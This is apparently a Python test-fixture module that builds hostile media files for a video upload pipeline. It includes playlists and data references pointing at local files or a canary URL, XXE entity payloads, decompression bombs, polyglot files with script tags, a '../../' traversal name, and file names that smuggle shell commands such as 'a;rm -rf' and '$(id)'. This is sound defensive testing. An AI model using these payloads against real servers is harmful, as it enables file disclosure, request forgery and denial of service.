"""Files that mean harm, by class: playlists, references, disguises, bombs, damage, endless ones.

Each is named as a film. ``HOSTILE``: name -> how it is made, and how it may end: a reason code, or FILM when it is
honestly taken in as the film it also is.
"""

import random
import struct
import zlib
from collections.abc import Callable, Sequence
from dataclasses import dataclass
from pathlib import Path

from tests.video import boxes
from tests.video.boxes import box, element, full, matroska, number, rewrite

FILM = "film"
HEAVY = ("too_heavy",)
FTYP = box(b"ftyp", b"isom\0\0\2\0isom")
WAVE = b"RIFF\x24\x10\0\0WAVEfmt \x10\0\0\0\1\0\1\0\x80\xbb\0\0\0\x77\1\0\2\0\x10\0data\0\x10\0\0"
DAMAGED = ("not_a_film", "cut_off", "no_picture", "too_heavy", FILM)


@dataclass(frozen=True)
class Place:
    """Where a hostile file is made: a whole film of the sender, a neighbour's film, the canary's address."""

    own: Path
    own_mkv: Path
    neighbour: Path
    canary: str


@dataclass(frozen=True)
class Trap:
    """``make`` gives the bytes; ``ends`` how it may end; ``full``: only in the long proof."""

    make: Callable[[Place], bytes]
    ends: Sequence[str] = ("not_a_film",)
    full: bool = False


def text(words: str, *ends: str) -> Trap:
    """A text in which {film} is the neighbour's path and {web} the canary's address."""
    return Trap(
        lambda place: words.format(film=place.neighbour, web=place.canary).encode(),
        ends or ("playlist", "not_a_film"),
    )


PLAYLISTS = {
    "hls": text("#EXTM3U\n#EXT-X-TARGETDURATION:9\n#EXTINF:9,\n{film}\n#EXT-X-ENDLIST\n"),
    "hls_file": text("#EXTM3U\n#EXT-X-TARGETDURATION:9\n#EXTINF:9,\nfile://{film}\n#EXT-X-ENDLIST\n"),
    "hls_web": text("#EXTM3U\n#EXT-X-TARGETDURATION:9\n#EXTINF:9,\n{web}/a.ts\n#EXT-X-ENDLIST\n"),
    "hls_mark": text("\ufeff#EXTM3U\n#EXT-X-TARGETDURATION:9\n#EXTINF:9,\n{film}\n#EXT-X-ENDLIST\n"),
    "hls_blank_first": text("\n\n  #EXTM3U\n#EXT-X-TARGETDURATION:9\n#EXTINF:9,\n{film}\n"),
    "hls_live": text("#EXTM3U\n#EXT-X-TARGETDURATION:1\n#EXT-X-MEDIA-SEQUENCE:1\n#EXTINF:1,\n{film}\n"),
    "hls_live_web": text("#EXTM3U\n#EXT-X-TARGETDURATION:1\n#EXTINF:1,\n{web}/live.ts\n"),
    "hls_of_itself": text("#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=1\n/w/in\n"),
    "hls_key": text('#EXTM3U\n#EXT-X-KEY:METHOD=AES-128,URI="{web}/key"\n#EXTINF:9,\n{film}\n#EXT-X-ENDLIST\n'),
    "hls_map": text('#EXTM3U\n#EXT-X-VERSION:7\n#EXT-X-MAP:URI="{film}"\n#EXTINF:9,\n{film}\n#EXT-X-ENDLIST\n'),
    "hls_concat": text("#EXTM3U\n#EXTINF:9,\nconcat:{film}|{film}\n#EXT-X-ENDLIST\n"),
    "hls_subfile": text("#EXTM3U\n#EXTINF:9,\nsubfile,,start,0,end,9999,,:{film}\n#EXT-X-ENDLIST\n"),
    "hls_variants": text("#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=1\n{web}/low.m3u8\n"),
    "m3u": text("{film}\n"),
    "m3u_web": text("{web}/film.mp4\n"),
    "ffconcat": text("ffconcat version 1.0\nfile '{film}'\n"),
    "ffconcat_loose": text("ffconcat version 1.0\noption safe 0\nfile {film}\nduration 99999\n"),
    "ffconcat_web": text("ffconcat version 1.0\nfile {web}/film.mp4\n"),
    "ffconcat_near": text("ffconcat version 1.0\nfile neighbour.mp4\n"),
    "concat": text("file '{film}'\nfile '{film}'\n"),
    "concat_remark": text("# a list\nfile '{film}'\n"),
    "sdp": text("v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\nt=0 0\nm=video 9 RTP/AVP 96\n"),
    "dash": text('<?xml version="1.0"?><MPD type="static"><Period><BaseURL>{film}</BaseURL></Period></MPD>'),
    "dash_bare": text('<MPD><Period><AdaptationSet><BaseURL>{web}/a</BaseURL></AdaptationSet></Period></MPD>'),
    "dash_entity": text('<?xml version="1.0"?><!DOCTYPE MPD [<!ENTITY a SYSTEM "file://{film}">]><MPD>&a;</MPD>'),
    "imf": text('<?xml version="1.0"?><CompositionPlaylist><a href="{film}"/></CompositionPlaylist>'),
    "smil": text("<smil><body><video src='{film}'/></body></smil>"),
    "asx": text('<asx version="3.0"><entry><ref href="{web}/a"/></entry></asx>'),
    "pls": text("[playlist]\nFile1={film}\nNumberOfEntries=1\n"),
    "asf_reference": text("[Reference]\nRef1={web}/a?MSWMExt=.asf\n"),
    "xspf": text('<?xml version="1.0"?><playlist><track><location>{web}</location></track></playlist>'),
    "image_pattern": text("{film}%d.png\n"),
    "tee": text("[f=mp4]{film}.copy|[f=mpegts]{web}\n"),
    "rtsp": text("RTSPtextrtsp://127.0.0.1:1/film\n"),
    "smil_of_quicktime": text('SMILtext<smil><video src="{web}/a"/></smil>'),
    "subtitles": text("1\n00:00:00,000 --> 00:10:00,000\n<img src='{web}/a.png'>\n"),
    "vobsub": text("# VobSub index file, v7 (do not modify this line!)\nid: nl, index: 0\nalt: {film}\n"),
    "ass": text("[Script Info]\nScriptType: v4.00+\nVideo File: {film}\n[Events]\n"),
    "svg": text('<svg xmlns="http://www.w3.org/2000/svg"><image href="{web}/a.png"/></svg>'),
    "svg_entity": text('<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a SYSTEM "file://{film}">]><svg>&a;</svg>'),
    "html": text('<!doctype html><video src="{web}/a"></video><script>fetch("{web}")</script>'),
    "avisynth": text('DirectShowSource("{film}")\n'),
    "metadata": text(";FFMETADATA1\ntitle={film}\n"),
    "playlist_behind_ftyp": Trap(
        lambda place: FTYP + f"\n#EXTM3U\n#EXTINF:9,\n{place.neighbour}\n".encode(),
        ("cut_off", "not_a_film"),
    ),
    "playlist_behind_blanks": Trap(
        lambda place: b" " * 5000 + f"#EXTM3U\n#EXTINF:9,\n{place.neighbour}\n".encode(), ("playlist", "not_a_film")
    ),
}  # fmt: skip


def _pointing(kind: bytes, where: Callable[[Place], str]) -> Callable[[Place], bytes]:
    """The sender's film whose data reference points elsewhere."""

    def make(place: Place) -> bytes:
        target = where(place).encode() + b"\0"
        dref = struct.pack(">II", 0, 1) + full(kind, target)
        return rewrite(place.own.read_bytes(), b"dref", lambda _: dref)

    return make


def _alias(place: Place) -> bytes:
    name = place.neighbour.name.encode()
    path = str(place.neighbour).encode()
    record = b"\0\0\0\0" + struct.pack(">HH", 150, 2) + b"\0\0" + bytes([4]) + b"disk".ljust(27, b"\0") + bytes(12)
    record += bytes([len(name)]) + name.ljust(63, b"\0") + bytes(16) + struct.pack(">hh", 1, 1) + bytes(14)
    record += struct.pack(">HH", 2, len(path)) + path + b"\xff\xff\0\0"
    dref = struct.pack(">II", 0, 1) + full(b"alis", record)
    return rewrite(place.own.read_bytes(), b"dref", lambda _: dref)


def _reference_movie(place: Place) -> bytes:
    data = f"file://{place.neighbour}\0".encode()
    rdrf = full(b"rdrf", b"url " + struct.pack(">I", len(data)) + data)
    return box(b"ftyp", b"qt  \0\0\0\0qt  ") + box(b"moov", box(b"rmra", box(b"rmda", rdrf)))


def _linked(place: Place) -> bytes:
    """A Matroska film that asks to go on in another file."""
    data = place.own_mkv.read_bytes()
    at = data.index(b"\x15\x49\xa9\x66")
    linked = element(0x3EB923, bytes(16)) + element(0x3E83BB, str(place.neighbour).encode())
    info = element(0x1549A966, linked + number(0x2AD7B1, 1_000_000))
    body = info + data[at:]
    start = data.index(b"\x18\x53\x80\x67")
    return data[:start] + element(0x18538067, body)


def _attachment(place: Place) -> bytes:
    """A Matroska film with a font and a script attached."""
    files = b"".join(
        element(0x61A7, element(0x466E, name) + element(0x4660, kind) + number(0x46AE, 7) + element(0x465C, data))
        for name, kind, data in (
            (b"../../evil.ttf", b"font/ttf", bytes(5000)),
            (b"/w/out/play.mp4", b"text/html", f"<script src='{place.canary}'></script>".encode()),
        )
    )
    data = place.own_mkv.read_bytes()
    start = data.index(b"\x18\x53\x80\x67")
    body = data[data.index(b"\x15\x49\xa9\x66") :]
    return data[:start] + element(0x18538067, element(0x1941A469, files) + body)


REFERENCES = {
    "dref_file": Trap(_pointing(b"url ", lambda place: f"file://{place.neighbour}"), DAMAGED),
    "dref_path": Trap(_pointing(b"url ", lambda place: str(place.neighbour)), DAMAGED),
    "dref_web": Trap(_pointing(b"url ", lambda place: f"{place.canary}/film.mov"), DAMAGED),
    "dref_alias": Trap(_alias, DAMAGED),
    "reference_movie": Trap(_reference_movie, DAMAGED),
    "mkv_linked": Trap(_linked, DAMAGED),
    "mkv_attachments": Trap(_attachment, DAMAGED),
}
_PNG = b"\x89PNG\r\n\x1a\n"


def _png(width: int, height: int) -> bytes:
    def chunk(name: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))

    head = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    return _PNG + chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(bytes(40_000_000), 9)) + chunk(b"IEND", b"")


def _jpeg(width: int, height: int) -> bytes:
    frame = struct.pack(">BHHB", 8, height, width, 3) + bytes([1, 0x22, 0, 2, 0x11, 1, 3, 0x11, 1])
    return (
        b"\xff\xd8\xff\xc0" + struct.pack(">H", 2 + len(frame)) + frame + b"\xff\xda\0\x08\1\1\0\0\x3f\0" + bytes(2000)
    )


def _avi(picture: bytes, size: tuple[int, int], entries: int = 1, codec: bytes = b"MJPG") -> bytes:
    def part(name: bytes, data: bytes) -> bytes:
        return name + struct.pack("<I", len(data)) + data + b"\0" * (len(data) % 2)

    head = struct.pack("<14I", 40_000, 0, 0, 0x10, entries, 0, 1, 0, *size, 0, 0, 0, 0)
    stream = b"vids" + codec + struct.pack("<10I4H", 0, 0, 0, 1, 25, 0, entries, 0, 0, 0, 0, 0, 0, 0)
    form = struct.pack("<IiiHH4sIiiII", 40, *size, 1, 24, codec, 0, 0, 0, 0, 0)
    lists = part(
        b"LIST", b"hdrl" + part(b"avih", head) + part(b"LIST", b"strl" + part(b"strh", stream) + part(b"strf", form))
    )
    movi = part(b"LIST", b"movi" + part(b"00dc", picture))
    index = part(b"idx1", struct.pack("<4sIII", b"00dc", 16, 4, len(picture)) * entries)
    return part(b"RIFF", b"AVI " + lists + movi + index)


def _mkv_picture(codec: bytes, size: tuple[int, int], block: bytes, *more: bytes, tracks: int = 1) -> bytes:
    picture = element(0xE0, number(0xB0, size[0]) + number(0xBA, size[1]))
    entries = b"".join(
        element(
            0xAE,
            number(0xD7, n) + number(0x73C5, n) + number(0x83, 1) + element(0x86, codec) + picture + b"".join(more),
        )
        for n in range(1, tracks + 1)
    )
    info = element(0x1549A966, number(0x2AD7B1, 1_000_000))
    cluster = element(0x1F43B675, number(0xE7, 0) + element(0xA3, b"\x81\0\0\x80" + block))
    return matroska(info, element(0x1654AE6B, entries), cluster)


def _zlib_block(_place: Place) -> bytes:
    squeezed = element(0x6D80, element(0x6240, element(0x5034, number(0x4254, 0))))
    return _mkv_picture(b"V_MJPEG", (640, 480), zlib.compress(bytes(300_000_000), 9), squeezed)


def _squeezed_moov(_place: Place) -> bytes:
    bomb = zlib.compress(bytes(300_000_000), 9)
    cmov = box(b"cmov", box(b"dcom", b"zlib") + box(b"cmvd", struct.pack(">I", 300_000_000) + bomb))
    return box(b"ftyp", b"qt  \0\0\0\0qt  ") + box(b"moov", cmov)


def _own(name: bytes, change: Callable[[bytes], bytes]) -> Callable[[Place], bytes]:
    return lambda place: rewrite(place.own.read_bytes(), name, change)


def _patched(at: int, value: bytes) -> Callable[[bytes], bytes]:
    return lambda payload: payload[:at] + value + payload[at + len(value) :]


def _nested(depth: int) -> Callable[[Place], bytes]:
    def make(_place: Place) -> bytes:
        head = b"".join(struct.pack(">I4s", 8 * (depth - level) + 8, b"moov") for level in range(depth))
        return FTYP + head + box(b"free")

    return make


def _nested_mkv(_place: Place) -> bytes:
    inner = b""
    for _ in range(3000):
        inner = element(0xB6, inner)  # chapters within chapters
    return matroska(element(0x1043A770, element(0x45B9, inner)))


def _many_tracks(place: Place) -> bytes:
    def many(payload: bytes) -> bytes:
        parts = list(boxes.boxes(payload))
        tracks = [box(name, part) for name, part in parts if name == b"trak"] * 1500
        return b"".join([box(name, part) for name, part in parts if name != b"trak"] + tracks)

    return rewrite(place.own.read_bytes(), b"moov", many)


def _claims(count: int) -> Callable[[bytes], bytes]:
    return _patched(4, struct.pack(">I", count))


BOMBS = {
    "png_30000": Trap(lambda _: _png(30_000, 30_000)),
    "jpeg_65535": Trap(lambda _: _jpeg(65_535, 65_535)),
    "avi_jpeg_65535": Trap(lambda _: _avi(_jpeg(65_535, 65_535), (65_535, 65_535)), DAMAGED),
    "avi_header_30000": Trap(lambda _: _avi(_jpeg(640, 480), (30_000, 30_000)), DAMAGED),
    "avi_mpeg4_30000": Trap(lambda _: _avi(bytes(4000), (30_000, 30_000), codec=b"XVID"), DAMAGED),
    "avi_index_of_a_million": Trap(lambda _: _avi(_jpeg(640, 480), (640, 480), entries=1_000_000), DAMAGED),
    "mkv_header_30000": Trap(lambda _: _mkv_picture(b"V_MPEG4/ISO/ASP", (30_000, 30_000), bytes(400)), DAMAGED),
    "mkv_vp8_16383": Trap(
        lambda _: _mkv_picture(b"V_VP8", (64, 64), b"\x10\x02\0\x9d\x01\x2a\xff\x3f\xff\x3f" + bytes(4000)), DAMAGED
    ),
    "mkv_zlib_bomb": Trap(_zlib_block, DAMAGED),
    "mkv_2000_tracks": Trap(lambda _: _mkv_picture(b"V_MJPEG", (640, 480), b"", tracks=2000), DAMAGED),
    "mkv_nested": Trap(_nested_mkv, DAMAGED),
    "mov_squeezed_moov": Trap(_squeezed_moov, DAMAGED),
    "mp4_1500_tracks": Trap(_many_tracks, DAMAGED),
    "mp4_header_30000": Trap(_own(b"stsd", _patched(40, struct.pack(">HH", 30_000, 30_000))), DAMAGED),
    "mp4_million_stts": Trap(
        _own(b"stts", lambda _: struct.pack(">II", 0, 1_000_000) + struct.pack(">II", 1, 512) * 1_000_000), DAMAGED
    ),
    "mp4_stts_claims": Trap(_own(b"stts", _claims(0x0FFFFFFF)), DAMAGED),
    "mp4_stts_samples": Trap(_own(b"stts", lambda _: struct.pack(">IIII", 0, 1, 0x7FFFFFFF, 512)), DAMAGED),
    "mp4_stsz_claims": Trap(_own(b"stsz", lambda _: struct.pack(">III", 0, 1, 0x7FFFFFFF)), DAMAGED),
    "mp4_stsz_millions": Trap(_own(b"stsz", lambda _: struct.pack(">III", 0, 1, 60_000_000)), HEAVY),
    "mp4_stsc_claims": Trap(_own(b"stsc", _claims(0x7FFFFFFF)), DAMAGED),
    "mp4_stco_claims": Trap(_own(b"stco", _claims(0x3FFFFFFF)), DAMAGED),
    "mp4_elst_claims": Trap(_own(b"elst", _claims(0x7FFFFFFF)), DAMAGED),
    "mp4_elst_million": Trap(
        _own(b"elst", lambda _: struct.pack(">II", 0, 200_000) + struct.pack(">Iii", 40, 0, 1 << 16) * 200_000), HEAVY
    ),
    "mp4_no_timescale": Trap(_own(b"mdhd", _patched(12, bytes(4))), DAMAGED),
    "mp4_timescale_huge": Trap(_own(b"mdhd", _patched(12, b"\xff" * 4)), DAMAGED),
    "mp4_nested": Trap(_nested(20_000), DAMAGED),
    "mp4_size_minus_one": Trap(
        lambda _: FTYP + b"\0\0\0\1moov" + b"\xff" * 8 + bytes(500), DAMAGED
    ),
    "mp4_size_all_ones": Trap(lambda _: FTYP + b"\xff\xff\xff\xffmoov" + bytes(500), DAMAGED),
    "mp4_size_of_four": Trap(lambda _: FTYP + b"\0\0\0\4moov" * 5000, DAMAGED),
    "mp4_million_boxes": Trap(lambda _: FTYP + box(b"free") * 1_000_000, DAMAGED),
}  # fmt: skip
_ENDLESS = (*DAMAGED, "too_long", "timed_out")
ENDLESS = {
    "lasts_for_days": Trap(
        _own(b"stts", lambda _: struct.pack(">IIII", 0, 1, 50, 0x7FFFFFFF)), _ENDLESS
    ),
    "one_picture_lasts": Trap(
        _own(b"stts", lambda _: struct.pack(">IIIIII", 0, 2, 49, 512, 1, 0x7FFFFFFF)), _ENDLESS
    ),
    "a_million_a_second": Trap(_own(b"mdhd", _patched(12, struct.pack(">I", 512_000_000))), _ENDLESS),
    "says_a_century": Trap(_own(b"mvhd", _patched(16, b"\x7f\xff\xff\xff")), _ENDLESS),
    "mkv_says_a_century": Trap(lambda place: _century(place.own_mkv.read_bytes()), _ENDLESS),
    "mkv_time_leaps": Trap(lambda place: _leap(place.own_mkv.read_bytes()), _ENDLESS),
}  # fmt: skip


def _century(data: bytes) -> bytes:
    at = data.index(b"\x44\x89\x88")
    return data[: at + 3] + struct.pack(">d", 3.2e12) + data[at + 11 :]


def _leap(data: bytes) -> bytes:
    """A cluster's clock goes on thirty years later."""
    at = data.rindex(b"\x1f\x43\xb6\x75")
    time = data.index(b"\xe7", at)
    size = data[time + 1] & 0x7F
    longer = b"\xe7\x88" + (946_080_000_000).to_bytes(8, "big")
    return data[:time] + longer + data[time + 2 + size :]


def _polyglot(place: Place) -> bytes:
    return box(b"free", b"\n%PDF-1.7\n<script>alert(1)</script>") + place.own.read_bytes()


def _moved(place: Place, head: bytes) -> bytes:
    return head + place.own.read_bytes()


_FUZZ = random.Random(20261124)
_NOISE = _FUZZ.randbytes(100_000)
DISGUISES = {
    "nothing": Trap(lambda _: b"", ("empty",)),
    "one_byte": Trap(lambda _: b"x"),
    "noise": Trap(lambda _: _NOISE),
    "noise_behind_ftyp": Trap(lambda _: FTYP + _NOISE, ("cut_off", "not_a_film")),
    "noise_behind_ebml": Trap(lambda _: b"\x1a\x45\xdf\xa3" + _NOISE, DAMAGED),
    "noise_behind_riff": Trap(lambda _: b"RIFF\xff\xff\0\0AVI " + _NOISE, DAMAGED),
    "noise_of_mpegts": Trap(lambda _: b"".join(b"\x47" + _NOISE[n : n + 187] for n in range(0, 90_000, 187)), DAMAGED),
    "zeros": Trap(lambda _: bytes(100_000)),
    "ones": Trap(lambda _: b"\xff" * 100_000, DAMAGED),
    "zip": Trap(lambda _: b"PK\3\4\x14\0\0\0\x08\0" + _NOISE[:4000] + b"PK\5\6" + bytes(18)),
    "pdf": Trap(lambda _: b"%PDF-1.7\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF"),
    "exe": Trap(lambda _: b"MZ\x90\0" + bytes(56) + b"\x80\0\0\0" + bytes(64) + b"PE\0\0" + _NOISE[:4000]),
    "elf": Trap(lambda _: b"\x7fELF\2\1\1" + bytes(9) + _NOISE[:4000]),
    "gzip": Trap(lambda _: b"\x1f\x8b\x08\0\0\0\0\0\0\3" + zlib.compress(bytes(100_000_000), 9)[2:-4]),
    "sqlite": Trap(lambda _: b"SQLite format 3\0" + bytes(4000)),
    "gif": Trap(lambda _: b"GIF89a" + b"\xff" * 4 + b"\x80\0\0" + bytes(6) + b"\x2c" + bytes(500)),
    "wav": Trap(lambda _: WAVE + bytes(4096)),
    "flac": Trap(lambda _: b"fLaC\0\0\0\x22" + bytes(4000)),
    "mp3": Trap(lambda _: b"ID3\4\0\0\0\0\0\0" + b"\xff\xfb\x90\0" * 2000, ("not_a_film", "no_picture")),
    "polyglot_pdf": Trap(_polyglot, DAMAGED),
    "zip_at_the_end": Trap(lambda place: place.own.read_bytes() + b"PK\3\4<script>secret" + _NOISE[:2000], DAMAGED),
    "html_first": Trap(lambda place: _moved(place, b"<html><script>secret</script></html>"), DAMAGED),
    "script_in_its_names": Trap(
        _own(b"moov", lambda moov: moov + box(b"udta", box(b"\xa9nam", b"\0\x16\0\0<script>secret</script>"))), DAMAGED
    ),
}  # fmt: skip


def _flipped(seed: int) -> Callable[[Place], bytes]:
    def make(place: Place) -> bytes:
        dice = random.Random(seed)
        data = bytearray((place.own if seed % 2 else place.own_mkv).read_bytes())
        for _ in range(4 + seed * 4):
            data[dice.randrange(len(data))] = dice.randrange(256)
        return bytes(data)

    return make


def _cut_at(edge: int, past: int) -> Callable[[Place], bytes]:
    def make(place: Place) -> bytes:
        data = place.own.read_bytes()
        found = boxes.edges(data)
        return data[: found[min(edge, len(found) - 1)] + past]

    return make


def _moov_noise(seed: int) -> Callable[[Place], bytes]:
    def change(payload: bytes) -> bytes:
        dice = random.Random(seed)
        data = bytearray(payload)
        for _ in range(12):
            data[dice.randrange(len(data))] = dice.choice((0, 1, 0x7F, 0x80, 0xFF))
        return bytes(data)

    return _own(b"moov", change)


DAMAGE = {
    **{f"cut_at_box_{edge}_{past}": Trap(_cut_at(edge, past), ("empty", *DAMAGED), full=edge % 2 == 1 or past > 4)
       for edge in range(7) for past in (0, 4, 11)},
    **{f"flipped_{seed}": Trap(_flipped(seed), _ENDLESS, full=seed > 4) for seed in range(1, 25)},
    **{f"moov_noise_{seed}": Trap(_moov_noise(seed), _ENDLESS, full=seed > 4) for seed in range(1, 25)},
}  # fmt: skip
HOSTILE: dict[str, Trap] = {**PLAYLISTS, **REFERENCES, **BOMBS, **ENDLESS, **DISGUISES, **DAMAGE}
NAMES = (
    "-i", "--help", "-y.mp4", "pipe:", "pipe:1.mp4", "http:film.mp4", "http://127.0.0.1:1/a.mp4".replace("/", "\u2044"),
    "concat:a|b.mp4", "file:film.mp4", "crypto:film.mp4", "data:video,mp4", "subfile,,start,0,end,1,,:film.mp4",
    "film\n-i\nother.mp4", "film\r.mp4", "\u202e4pm.exe.mp4", "f\u00edlm van \u041d\u0438\u043d\u0430 \U0001f388.mp4",
    "%d.mp4", "film%03d.mp4", "*.mp4", "[a]{{b}}.mp4", "a;rm -rf b.mp4", "$(id).mp4", "`id`.mp4", "'\".mp4", "film .",
    ".mp4", "..mp4", "con.mp4", "a" * 251 + ".mp4", "\u00e9" * 125 + ".mp4", "film.mp4\t", "\\\\host\\share.mp4",
)  # fmt: skip
